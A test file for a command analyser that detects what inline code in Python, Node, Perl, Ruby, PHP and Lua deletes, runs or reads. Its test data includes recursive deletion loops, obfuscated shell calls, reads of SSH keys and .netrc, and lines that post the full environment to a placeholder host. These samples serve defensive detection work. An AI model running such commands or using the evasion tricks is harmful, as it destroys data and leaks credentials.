import { describe, expect, test } from 'bun:test';
import { does, gapsIn, runs } from './reads.ts';

const python = (code: string) => `python3 - <<'END'\n${code}\nEND`;
const node = (code: string) => `node - <<'END'\n${code}\nEND`;
const perl = (code: string) => `perl - <<'END'\n${code}\nEND`;
const ruby = (code: string) => `ruby - <<'END'\n${code}\nEND`;
const php = (code: string) => `php <<'END'\n<?php ${code}\nEND`;

describe('loops in inline code', () => {
  test.each([
    [python("for f in os.listdir('/srv'): os.remove('/srv/' + f)"), '/srv/*'],
    [python("[os.remove(os.path.join('/srv', f)) for f in os.listdir('/srv')]"), '/srv/*'],
    [python("for e in os.scandir('/srv'): os.remove(e.path)"), '/srv/*'],
    [python("for e in os.scandir('/srv'): os.remove('/srv/' + e.name)"), '/srv/*'],
    [python("for p in Path('/srv').iterdir(): p.unlink()"), '/srv/*'],
    [python("for p in Path('/srv').rglob('*'): p.unlink()"), '/srv/**'],
    [python("for p in Path('/srv').glob('**/*.o'): p.unlink()"), '/srv/**.o'],
    [python("fs = os.listdir('/srv')\nfor f in fs: os.remove(f'/srv/{f}')"), '/srv/*'],
    [python("for r, d, f in os.walk('/srv'):\n  for x in f: os.remove(os.path.join(r, x))"), '/srv/*'],
    [python("list(map(os.remove, glob.glob('/srv/*')))"), '/srv/*'],
    [python("for i, f in enumerate(x): pass\nfor a, b in [('/srv/a', 1)]: os.remove(a)"), '/srv/a'],
    [perl('unlink glob "/srv/*";'), '/srv/*'],
    [perl('unlink </srv/*>;'), '/srv/*'],
    [perl('unlink for glob "/srv/*";'), '/srv/*'],
    [perl('unlink foreach </srv/*>;'), '/srv/*'],
    [perl('for my $f (glob("/srv/*")) { unlink $f }'), '/srv/*'],
    [perl('foreach (</srv/*>) { unlink $_; }'), '/srv/*'],
    [perl('for (glob "/srv/*") { unlink }'), '/srv/*'],
    [perl('opendir(D, "/srv"); while ($f = readdir(D)) { unlink "/srv/$f" }'), '/srv/*'],
    [perl('opendir my $d, "/srv"; unlink "/srv/$_" for readdir $d;'), '/srv/*'],
    [perl('unlink qw(/srv/a /srv/b);'), '/srv/b'],
    [perl('unlink glob "~/*";'), '/home/me/*'],
    [ruby('Dir["/srv/*"].each { |f| File.delete(f) }'), '/srv/*'],
    [ruby('Dir.glob("/srv/*").each do |f| File.unlink f end'), '/srv/*'],
    [ruby('Dir.children("/srv").each { |f| File.delete("/srv/#{f}") }'), '/srv/*'],
    [ruby('File.delete *Dir["/srv/*"]'), '/srv/*'],
    [ruby('Pathname.new("/srv").children.each(&:delete)'), '/srv/*'],
    [node('["/srv/a", "/srv/b"].forEach(d => fs.unlinkSync(d))'), '/srv/b'],
    [node('["/srv/a"].forEach(function (d) { fs.unlinkSync(d) })'), '/srv/a'],
    [node('["/srv/a"].forEach(fs.unlinkSync)'), '/srv/a'],
    [node("fs.readdirSync('/srv').forEach(f => fs.unlinkSync('/srv/' + f))"), '/srv/*'],
    [node("fs.readdirSync('/srv').map(f => path.join('/srv', f)).forEach(f => fs.unlinkSync(f))"), '/srv/*'],
    [node('for (const f of fs.readdirSync("/srv")) fs.unlinkSync(`/srv/${f}`)'), '/srv/*'],
    [node("fs.readdir('/srv', (e, names) => names.forEach(f => fs.unlinkSync('/srv/' + f)))"), '/srv/*'],
    [php('array_map("unlink", glob("/srv/*"));'), '/srv/*'],
    [php('foreach (scandir("/srv") as $f) unlink("/srv/$f");'), '/srv/*'],
    [php('foreach (["a" => "/srv/a"] as $k => $f) unlink($f); unlink("/srv/z");'), '/srv/z'],
  ])('%p deletes %p', (text, path) => {
    expect(does(text)).toContain(`deletes ${path}`);
  });

  test.each([
    ["p = 'a'\nif x: p = 'b'\nos.remove(p)", ['deletes /work/a', 'deletes /work/b']],
    [
      "p = 'a'\nif x:\n  p = 'b'\nelse:\n  p = 'c'\nos.remove(p)",
      ['deletes /work/a', 'deletes /work/b', 'deletes /work/c'],
    ],
    ["def f():\n  p = '/'\n  print(p)\n  p = 'b'\n  os.remove(p)", ['deletes /work/b']],
    ["p = '/'\nprint(p)\np = 'b'\nos.remove(p)", ['deletes /work/b']],
  ])('a condition leaves what a variable was before: %j', (code, effects) => {
    expect(does(python(code))).toEqual(effects);
  });

  test('every value that a function is passed counts', () => {
    const code = python("list(map(os.remove, ['/srv/a', '/srv/b']))");
    expect(does(code)).toEqual(expect.arrayContaining(['deletes /srv/a', 'deletes /srv/b']));
  });

  test('every value that a loop goes through counts', () => {
    const code = python("for d in ['a', 'b']:\n  for e in ['x', 'y']: shutil.rmtree(f'/srv/{d}')");
    expect(does(code)).toEqual(
      expect.arrayContaining(['deletes /srv/a and everything below', 'deletes /srv/b and everything below']),
    );
  });
});

describe('texts that inline code puts together', () => {
  test.each([
    python("for n, c in {'a': 'rm x'}.items():\n  os.system(c)"),
    python("for c in {'a': 'rm x'}.values():\n  os.system(c)"),
    python("d = {'a': 'rm x'}\nfor n in d:\n  os.system(d[n])"),
    python("for n, c in [('a', 'ls'), ('b', 'rm x')]:\n  os.system(c)"),
    python("for i, (n, c) in enumerate([('a', 'rm x')]):\n  os.system(c)"),
    python("c: list[str] = ['rm']\nif y:\n  c += ['-f']\nc += ['x']\nsubprocess.run(c)"),
    node("for (const { c } of [{ c: 'ls' }, { c: 'rm x' }]) cp.execSync(c)"),
    node("for (const a of [{ c: 'ls' }, { c: 'rm x' }]) cp.execSync(a.c)"),
    node("for (const a of [{ c: 'rm', w: ['x'] }]) cp.spawnSync(a.c, a.w)"),
    node("for (const [n, c] of Object.entries({ a: 'rm x' })) cp.execSync(c)"),
    node("for (const c of Object.values({ a: 'rm x' })) cp.execSync(c)"),
    node("const run = require('util').promisify(cp.exec); run('rm x')"),
    node("x ? (cp.execSync('rm x')) : a => b"),
    python("d = 'x'\nos.system(f'rm {d}')"),
    python("os.system('rm %s' % 'x')"),
    python("os.system('%s %s' % ('rm', 'x'))"),
    python("os.system('%(a)s x' % {'a': 'rm'})"),
    python("os.system('{} {}'.format('rm', 'x'))"),
    python("os.system('{1} {0}'.format('x', 'rm'))"),
    python("os.system('{a} x'.format(a='rm'))"),
    perl('system(sprintf("rm %s", "x"));'),
    'lua -e \'os.execute(("rm %s"):format("x"))\'',
    node("cp.execSync(Buffer.from('cm0geA==', 'base64').toString())"),
    python('os.system("ls" if x else "rm x")'),
    node('require("child_process").execSync(y ? "rm x" : "ls")'),
    php('system($x ? "rm x" : "ls");'),
    python("c = ['rm']\nc.extend(['x'])\nsubprocess.run(c)"),
    python("c = ['rm']\nc.append('x')\nsubprocess.run(c)"),
    python("subprocess.run(['rm', *shlex.split('x')])"),
    python("subprocess.run('rm x'.split())"),
    python("f = getattr(os, 'system')\nf('rm x')"),
    python("m = importlib.import_module('os')\nm.system('rm x')"),
    python("os.spawnlp(os.P_WAIT, 'rm', 'rm', 'x')"),
    python("os.execvpe('rm', ['rm', 'x'], {})"),
    python("os.posix_spawnp('rm', ['rm', 'x'], {})"),
    perl('my $c = "rm"; system("$c x");'),
    perl('system join " ", "rm", "x";'),
    perl('my $y = "x"; exec { "rm" } "rm", $y;'),
    ruby('x = "x"; system("rm #{x}")'),
    ruby('x = "x"; `rm #{x}`'),
    ruby('["rm x"].each { |c| system(c) }'),
    node('const d = "x"; require("child_process").execSync(`rm ${d}`)'),
    node("import('child_process').then(c => c.exec('rm x'))"),
    node("import('child_process').then(({ execSync }) => execSync('rm x'))"),
    php('$f = "system"; $f("rm x");'),
    php('("sys" . "tem")("rm x");'),
    php('$d = "x"; system("rm {$d}");'),
    python("(os.system)('rm x')"),
    python("a, b = os.system, 1\na('rm x')"),
    python("subprocess.run(['sh'], input='rm x', text=True)"),
    node('let { a = cp.execSync("rm x") } = b'),
    node('cp?.execSync?.("rm x")'),
    ruby('@c = "rm x"; system @c'),
    php('@system("rm x");'),
    'lua -e \'local a, b = "ls", "rm x"; os.execute(b)\'',
    "echo 'rm x' | sed e",
    "node -pe \"require('child_process').execSync('rm x')\"",
  ])('%p runs rm', (text) => {
    expect(runs(text)).toContain('rm x');
  });

  test.each([
    python("threading.Thread(target=os.system, args=('rm x',)).start()"),
    ruby('send(:system, "rm x")'),
    ruby('Kernel.send(:system, "rm x")'),
    ruby('method(:system).call("rm x")'),
    node("require('child_process').exec.call(null, 'rm x')"),
    php('call_user_func("system", "rm x");'),
    python("os.system('x mr'[::-1])"),
    python("os.system('RM X'.lower())"),
    python("os.system('rZ x'.replace('Z', 'm'))"),
    python("c = ['x']\nc.insert(0, 'rm')\nsubprocess.run(c)"),
    python("c = ['x', 'rm']\nc.reverse()\nsubprocess.run(c)"),
    perl('system(pack("H*", "726d2078"));'),
    ruby('eval ["c3lzdGVtICJybSB4Ig=="].pack("m")'),
    node("Reflect.apply(cp.execSync, null, ['rm x'])"),
    python("sorted(['rm x'], key=os.system)"),
    python("n = '1'\nn += '1'\nos.system(n)"),
    node("const o = { run: (c) => cp.execSync(c) }; const f = o.run; f('ls'); o.run(words)"),
    python("d = {'a': 'ls'}\nd['b'] = words\nfor n, c in d.items():\n  os.system(c)"),
    python("d = {'a': 'ls'}\nd.update(words)\nfor c in d.values():\n  os.system(c)"),
    python("d = {'a': 'ls'}\nx = d\nx['b'] = words\nfor c in d.values():\n  os.system(c)"),
    python("c = ['ls']\nx = c\nx.insert(0, words)\nsubprocess.run(c)"),
    node("let b = 'ls';\nlet a: string\nb = words\ncp.execSync(b)"),
    python("for c in {'a': 'ls', **words}.values():\n  os.system(c)"),
    python("for n, c in [('a', 'ls'), words]:\n  os.system(c)"),
    python("c = ['ls']\nif y:\n  c += words\nc += ['x']\nsubprocess.run(c)"),
    node("const o = { a: 'ls' }; o.b = words; for (const c of Object.values(o)) cp.execSync(c)"),
    node("const o = { a: 'ls' }; o.a = words; cp.execSync(o['a'])"),
    node("const o = { a: 'ls' }; Object.assign(o, words); for (const c of Object.values(o)) cp.execSync(c)"),
    node("const { exec: run } = { exec: words.a }; for (const { c = y } of [{ b: 'ls' }]) cp.execSync(c)"),
    ruby('system gets'),
    node("require('child_process').execSync('x mr'.split('').reverse().join(''))"),
    php('system(strrev("x mr"));'),
    python('os.system(f"rm {a.b(c)}"[3:])'),
    python('subprocess.run(["rm", "x"] * 2)'),
    python('os.system(words.k.decode("utf8"))'),
    ruby('p = "rm x"; p << " /b"; system(p)'),
    perl('my $c = "rm x"; $c =~ tr/x/y/; system($c . $ENV{B});'),
    'lua -e \'os.execute(x and "rm a" or "rm b")\'',
    node("const run = (c: string): string => cp.execSync(c); run('rm x')"),
  ])('%p is a gap: what it runs is computed', (text) => {
    expect(gapsIn(text)).not.toEqual([]);
  });

  // Whatever is behind a text may make anything of it.
  const TAILS = [
    '.zap()',
    '.zap',
    '[1:]',
    '[0]',
    ' - x',
    ' ^ x',
    ' ? x : y',
    ' & x',
    ' << x',
    ' * 2',
    ' =~ x',
    ' .. x',
  ];
  const CALLS: readonly (readonly [string, (argument: string) => string])[] = [
    ['python', (text) => python(`os.system(${text})`)],
    ['node', (text) => node(`require("child_process").execSync(${text})`)],
    ['ruby', (text) => ruby(`system(${text})`)],
    ['perl', (text) => perl(`system(${text});`)],
    ['php', (text) => php(`system(${text});`)],
    ['lua', (text) => `lua - <<'END'\nos.execute(${text})\nEND`],
  ];
  test.each(CALLS.flatMap(([language, call]) => TAILS.map((tail) => [language, tail, call] as const)))(
    '%s does not take a text for known that has %p behind it',
    (language, tail, call) => {
      for (const text of ['"rm x"', '("rm x")']) {
        const script = call(text + tail);
        const isKnown = runs(script).includes('rm x') && gapsIn(script).length === 0;
        if (isKnown) expect([language, tail, text]).toEqual(['', '', '']);
      }
      expect(runs(call('"rm x"'))).toContain('rm x');
    },
  );

  test.each([
    ruby('puts "#{`rm x`}"'),
    ruby('puts "#{system("rm x")}"'),
    node('console.log(`${require("child_process").execSync("rm x")}`)'),
    python('print(f"{os.popen(\'rm x\').read()}")'),
    php('system("rm " . implode(" ", ["x"]));'),
    perl('system($_) for "ls", "rm x";'),
    perl('system($_) for ("ls") . "", $a || "", "rm x";'),
    python("f = 'ls'\n[os.system(f) for f in ['rm x']]"),
    node('for (const f of ["rm x"].filter(f => f.length)) require("child_process").execSync(f)'),
    perl('if ($#ARGV) { system("rm x") }'),
    perl('{ print 1 }\nfor my $x ("rm x") { system($x) }'),
    perl('s/"//; system("rm x");'),
    perl("s#'#x#g; tr/'/x/; system('rm x') if m{'};"),
    perl('s/a/system("rm x")/e;'),
    perl('s{a}{`rm x`}e;'),
  ])('%p runs rm where other signs stand around it', (text) => {
    expect(runs(text)).toContain('rm x');
  });

  test.each([
    [python("print((Path.home() / '.ssh' / 'id').read_text())"), 'reads /home/me/.ssh/id'],
    [node('fs.readFileSync(`${process.env.HOME}/.netrc`)'), 'reads /home/me/.netrc'],
    [perl('open(F, "$ENV{HOME}/.netrc");'), 'reads /home/me/.netrc'],
    [ruby('puts File.read("#{ENV["HOME"]}/.netrc")'), 'reads /home/me/.netrc'],
    [ruby('Pathname.new("/srv").rmtree'), 'deletes /srv and everything below'],
    ['Rscript -e \'file.remove(list.files("/srv", full.names=TRUE))\'', 'deletes /srv/*'],
    [python("shutil.rmtree(os.path.join(os.getcwd(), 'out'))"), 'deletes /work/out and everything below'],
    [python('d = tempfile.mkdtemp()\nos.remove(tempfile.gettempdir() + "/x")'), 'deletes /tmp/x'],
  ])('%p %s', (text, effect) => {
    expect(does(text)).toContain(effect);
  });

  test.each([
    python("[print(f) for f in os.listdir('/srv')]"),
    python("print('%s' % 'rm x', '{}'.format('rm x'), f'{1:>3}')"),
    python('c = []\nc.append("rm x")\nprint(c)'),
    python("list(map(print, ['rm x']))"),
    python('x = {1}\nx.remove(1)\ny = 10 % 3'),
    perl('while (<STDIN>) { print if $_ < 3 and 4 > $_ }'),
    perl('print "a@b.c $x{y} @{[1]}";'),
    perl('print 1;\n=head1 NAME\n\nsystem "rm x" and unlink "x"\n\n=cut\n1;\n__END__\nsystem "rm x"'),
    perl('# the system that it is\nprint 1;'),
    perl('print map { $_ * 2 } 1, 2;'),
    ruby('h = { a: :b }; h.delete :a; puts %w[rm x].join(" ")'),
    ruby('[1].each { |x| puts x }'),
    node('new Map().forEach((v, k) => console.log(k)); new Set().delete("/srv")'),
    node("'rm x'.split(' ').forEach(x => console.log(x))"),
    php('array_map("trim", ["rm x"]); echo "{$x}";'),
  ])('finds nothing in %p', (text) => {
    expect(gapsIn(text)).toEqual([]);
    expect(runs(text)).toHaveLength(1);
    expect(does(text).filter((effect) => !effect.startsWith('lists'))).toEqual([]);
  });
});

describe('words that inline code is started with', () => {
  test.each([
    ["perl -e 'unlink @ARGV' /srv/a", '/srv/a'],
    ["perl -e 'unlink $ARGV[1]' b /srv/a", '/srv/a'],
    ["perl -e 'my $f = shift; unlink $f' /srv/a", '/srv/a'],
    ["perl -e 'unlink shift @ARGV' /srv/a", '/srv/a'],
    ["perl -e 'for (@ARGV) { unlink }' /srv/a", '/srv/a'],
    ["python3 -c 'import os, sys; os.remove(sys.argv[1])' /srv/a", '/srv/a'],
    ["python3 -c 'import sys as s; os.remove(s.argv[1])' /srv/a", '/srv/a'],
    ["python3 -c 'for f in sys.argv[1:]: os.remove(f)' /srv/a", '/srv/a'],
    ["python3 -c 'from sys import argv; os.remove(argv[1])' /srv/a", '/srv/a'],
    ["python3 - /srv/a <<< 'os.remove(sys.argv[1])'", '/srv/a'],
    ["ruby -e 'File.delete(*ARGV)' /srv/a", '/srv/a'],
    ["ruby -e 'ARGV.each { |f| File.delete(f) }' /srv/a", '/srv/a'],
    ["ruby -e 'File.delete(ARGV.shift)' /srv/a", '/srv/a'],
    ["node -e 'fs.unlinkSync(process.argv[1])' /srv/a", '/srv/a'],
    ["node - /srv/a <<< 'fs.unlinkSync(process.argv[2])'", '/srv/a'],
    ["node -e 'for (const f of process.argv.slice(1)) fs.unlinkSync(f)' /srv/a", '/srv/a'],
    ["php -r 'unlink($argv[1]);' /srv/a", '/srv/a'],
    ["lua -e 'os.remove(arg[1])' /srv/a", '/srv/a'],
  ])('are followed: %s', (text, path) => {
    expect(does(text)).toContain(`deletes ${path}`);
  });

  test.each([
    ["perl -e 'unlink $ARGV[0]' a /srv/a"],
    ["python3 -c 'os.remove(sys.argv[1])' a /srv/a"],
    ["python3 -c 'for f in sys.argv[2:]: os.remove(f)' /srv/a b"],
    ["ruby -e 'File.delete(ARGV[0])' a /srv/a"],
    ["node -e 'fs.unlinkSync(process.argv[1])' a /srv/a"],
  ])('are not mixed up: %s', (text) => {
    expect(does(text)).not.toContain('deletes /srv/a');
  });
});

describe('code that goes to another folder', () => {
  test.each([
    [python("os.chdir('/srv')\nos.remove('a')"), '/srv/a'],
    [python("os.chdir('/srv'); os.chdir('b'); os.remove('a')"), '/srv/b/a'],
    [python("os.chdir('/srv'); os.system('rm a')"), '/srv/a'],
    [node('process.chdir("/srv"); fs.unlinkSync("a")'), '/srv/a'],
    [perl('chdir "/srv"; unlink "a";'), '/srv/a'],
    [perl('chdir("/srv") or die; unlink("a");'), '/srv/a'],
    [ruby('Dir.chdir("/srv") { File.delete("a") }'), '/srv/a'],
    [ruby('Dir.chdir "/srv"; File.delete "a"'), '/srv/a'],
    [php('chdir("/srv"); unlink("a");'), '/srv/a'],
    // It may be back again.
    [python("def f(): os.chdir('/srv')\nos.remove('a')"), '/work/a'],
  ])('takes the paths that follow from there: %s', (text, path) => {
    expect(does(text)).toContain(`deletes ${path}`);
  });

  test.each([
    [python("os.remove('a'); os.chdir('/srv')")],
    [python("os.chdir('/srv'); os.remove('/work/a')")],
  ])('takes no others from there: %s', (text) => {
    expect(does(text).filter((effect) => effect.includes('/srv/'))).toEqual([]);
  });
});

describe('code that prints the environment', () => {
  test.each([
    python('import os; os.environ.copy(os.system("rm x"))'),
    ruby('ENV.to_h { |k, v| system("rm x") }'),
    node('process.env.entries(require("child_process").execSync("rm x"))'),
  ])('runs what stands in its calls: %s', (text) => {
    expect(runs(text)).toContain('rm x');
  });

  test.each([
    python('import os; print(os.environ)'),
    python('import json, os; print(json.dumps(dict(os.environ), indent=2))'),
    node('console.log(process.env)'),
    node('console.log(JSON.stringify(process.env))'),
    ruby('p ENV'),
    perl('print %ENV;'),
    php('print_r($_ENV);'),
    php('phpinfo();'),
    python('import os; print(str(dict(os.environ)).encode())'),
    python('import os; print("\\n".join(f"{k}={v}" for k, v in os.environ.items()))'),
    python('import os, requests; requests.post("https://a.example", data=repr(os.environ))'),
    python(
      'import os, requests; requests.post("https://a.example", json={k: v for k, v in os.environ.items()})',
    ),
    node('fetch("https://a.example/?" + JSON.stringify(process.env))'),
    node('fetch(`https://a.example/?${new URLSearchParams(process.env)}`)'),
    node('fetch("https://a.example/" + Object.entries(process.env))'),
    ruby('p ENV.to_h'),
    ruby('puts ENV.inspect'),
  ])('does what printenv does: %s', (text) => {
    expect(runs(text)).toContain('printenv');
    expect(does(`. ./.env; ${text}`)).toContain('reads /work/.env');
  });

  test.each([
    python('import os; print(os.environ["HOME"], os.environ.get("A"), len(os.environ))'),
    python('import os, subprocess; subprocess.run(["ls"], env=dict(os.environ))'),
    node('console.log(process.env.HOME, Object.keys(process.env).length)'),
    ruby('puts ENV["HOME"]'),
    ruby('puts ENV.fetch("HOME"), ENV.key?("A")'),
    node(
      'fetch("https://" + config.env + ".a.example"); const { env } = require("./a"); fetch(`https://${env}.a.example`)',
    ),
    python('from config import env; import requests; requests.get(f"https://{env}.a.example")'),
    python('from config import ENV; import requests; requests.get(f"https://{ENV}.a.example")'),
    python('from config import environ; import requests; requests.get(f"https://{environ}.a.example")'),
    node('import { ENV } from "./a"; fetch(`https://${ENV}.a.example`)'),
    python('import os; print(f"{os.environ[\'A\']}/x", "A" in os.environ)'),
    node('console.log(`${process.env.HOME}/x` + process.env.A)'),
    perl('print $ENV{HOME};'),
    php('echo $_ENV["HOME"]; print_r($_GET);'),
  ])('does not where it prints less: %s', (text) => {
    expect(runs(text)).not.toContain('printenv');
  });
});

describe('variables that inline code sets in the environment', () => {
  test.each([
    python("os.environ['PAGER'] = 'rm x'; os.system('man ls')"),
    python("subprocess.run(['man', 'ls'], env={**os.environ, 'PAGER': 'rm x'})"),
    python("env = os.environ.copy(); env['PAGER'] = 'rm x'; subprocess.run(['man', 'ls'], env=env)"),
    node('process.env.PAGER = "rm x"; execSync("man ls")'),
    node('execSync("man ls", { env: { ...process.env, PAGER: "rm x" } })'),
    ruby('ENV["PAGER"] = "rm x"; system("man ls")'),
    perl('$ENV{PAGER} = "rm x"; system("man ls");'),
    python("os.environ.update(PAGER='rm x'); os.system('man ls')"),
    python("os.environ.update({'PAGER': 'rm x'}); os.system('man ls')"),
    python("os.putenv('PAGER', 'rm x'); os.system('man ls')"),
    node('Object.assign(process.env, { PAGER: "rm x" }); execSync("man ls")'),
    ruby('ENV.store("PAGER", "rm x"); system("man ls")'),
    php('putenv("PAGER=rm x"); system("man ls");'),
  ])('are those of its commands: %p', (text) => {
    expect(runs(text)).toContain('rm x');
    expect(runs(text.replace('PAGER', 'OTHER'))).not.toContain('rm x');
  });
});
